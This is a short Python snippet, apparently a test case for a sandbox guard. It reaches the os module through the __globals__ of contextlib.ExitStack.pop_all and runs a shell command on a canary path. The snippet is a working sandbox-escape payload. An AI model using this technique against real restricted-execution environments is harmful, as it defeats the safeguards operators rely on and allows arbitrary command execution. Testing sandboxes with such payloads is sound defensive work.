# reaches: the globals of a library class's method
import contextlib
contextlib.ExitStack.pop_all.__globals__["os"].system("/srv/canary")
